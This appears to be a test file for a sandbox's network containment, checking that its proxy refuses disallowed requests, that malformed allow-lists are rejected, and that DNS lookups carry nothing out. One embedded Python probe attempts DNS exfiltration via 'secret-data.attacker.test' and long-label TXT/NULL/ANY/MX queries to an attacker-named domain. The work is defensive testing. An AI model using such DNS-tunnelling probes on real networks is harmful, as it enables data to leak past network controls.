import type { SpecInput } from '../../contract/spec.js'
import { ensure, ensureRejects, ensureSame } from '../check.js'
import { askPython, withSandbox } from '../guest.js'
import type { Subject } from '../subject.js'
import type { ContainmentCase } from './containment.js'
import { type Refusal, refusals } from './network-refusals.js'

/** Says each of these to the proxy of its loopback, by itself, and tells the first line of what comes back. */
const say = `import json, socket, sys
said = {}
for label, text in json.loads(sys.argv[1]).items():
    try:
        with socket.create_connection(('127.0.0.1', 3128), 5) as s:
            s.settimeout(5); s.sendall(text.encode('latin1'))
            got = b''
            while b'\\n' not in got and len(got) < 65536:
                part = s.recv(4096)
                if not part: break
                got += part
            said[label] = got.split(b'\\r\\n')[0].decode('latin1') or 'closed'
    except OSError as e: said[label] = type(e).__name__
print(json.dumps(said))`

/** What a proxy answers that does not do it: refused, not understood, or closed without a word. */
const refusedWith = /^HTTP\/1\.[01] (400|403|405|407|421|431|501)\b|^closed$|^\x05[^\x00]|^\x00[^\x5a]|^\x05$/

function refusalCase(refusal: Refusal): ContainmentCase {
  const { id, name, threats, tries, means, allow, block, says } = refusal
  const network = { allow: [...allow], ...(block && { block: [...block] }) }
  return {
    id: `network/${id}`,
    name,
    group: 'network',
    threats: threats.split(' '),
    tries,
    means,
    places: ['user'],
    needs: ['engine', 'isolates', 'feature:network'],
    run: async (subject) => {
      const sayings = typeof says === 'function' ? says(subject.host) : says
      const answers = await withSandbox(subject, (sandbox) => askPython<Record<string, string>>(sandbox, say, { args: [JSON.stringify(sayings)] }), { network })
      const through = Object.entries(answers).filter(([, answer]) => !refusedWith.test(answer))
      ensureSame(Object.fromEntries(through), {}, 'what was not refused')
      return Object.entries(answers)
        .map(([label, answer]) => `${label}: ${answer.replace('HTTP/1.1 ', '')}`)
        .join(', ')
    },
  }
}

/** What a list may not say. */
const badLists: Readonly<Record<string, unknown>> = {
  'an empty name': [''],
  'a star and a dot': ['*.'],
  'a scheme': ['https://example.com'],
  'a path': ['example.com/x'],
  'no port': ['example.com:'],
  'a space': ['exa mple.com'],
  'a star in the middle': ['a.*.com'],
  'a number that is an address': ['2130706433'],
  'a text instead of a list': '*',
}

const configurations: ContainmentCase = {
  id: 'network/configurations',
  name: 'lists that cannot be read strictly are refused when they are stated',
  group: 'network',
  threats: ['N-32', 'S-29'],
  tries: 'Asks for sandboxes with nine lists that are almost right.',
  means: 'A mistake in a list opens more than was meant, without a word.',
  places: ['user'],
  needs: ['engine', 'feature:network'],
  run: async (subject) => {
    for (const allow of Object.values(badLists)) await ensureRejects(subject.open({ network: { allow } } as SpecInput), ['invalid'])
    return `${Object.keys(badLists).length} refused`
  },
}

const names = `import json, socket
said = {}
for name in ('secret-data.attacker.test', 'example.org', 'localhost.attacker.test'):
    try: said[name] = socket.getaddrinfo(name, 443)[0][4][0]
    except OSError as e: said[name] = 'unknown'
def asked(port, query):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1); s.sendto(query, ('127.0.0.1', port))
        try: return s.recv(512)[3] & 15
        except OSError as e: return type(e).__name__
head = bytes.fromhex('abcd01000001000000000000')
label = lambda *parts: b''.join(bytes([len(p)]) + p for p in parts) + b'\\0'
for kind, number in (('TXT', 16), ('NULL', 10), ('ANY', 255), ('MX', 15)):
    said[kind] = asked(53, head + label(b'x' * 60, b'attacker', b'test') + number.to_bytes(2, 'big') + b'\\0\\1')
print(json.dumps(said))`

const resolving: ContainmentCase = {
  id: 'network/names',
  name: 'names that are not allowed have no address, and DNS carries nothing out',
  group: 'network',
  threats: ['N-13', 'N-14'],
  tries: 'With one name allowed, looks others up by the system, and asks port 53 for TXT, NULL, MX and ANY with long labels.',
  means: 'Data can be carried out in the names that are looked up.',
  places: ['user'],
  needs: ['engine', 'isolates', 'feature:network'],
  run: (subject) =>
    withSandbox(
      subject,
      async (sandbox) => {
        const said = await askPython<Record<string, string | number>>(sandbox, names)
        const through = Object.entries(said).filter(([, answer]) => answer === 0 || (typeof answer === 'string' && /^[\d:.a-f]+$/.test(answer)))
        ensureSame(Object.fromEntries(through), {}, 'what was answered')
        return JSON.stringify(said)
      },
      { network: { allow: ['example.com'] } },
    ),
}

async function listenersSaw(subject: Subject, act: () => Promise<string>): Promise<string> {
  const { tcp4, tcp6 } = subject.host.canaries
  const count = (): number => tcp4.connections() + (tcp6?.connections() ?? 0)
  const before = count()
  const observed = await act()
  ensure(count() === before, "the host's listeners must see nothing", count() - before)
  return observed
}

export const networkContainment: readonly ContainmentCase[] = [
  ...refusals.map((refusal) => {
    const plain = refusalCase(refusal)
    return { ...plain, run: (subject: Subject) => listenersSaw(subject, () => plain.run(subject)) }
  }),
  configurations,
  resolving,
]
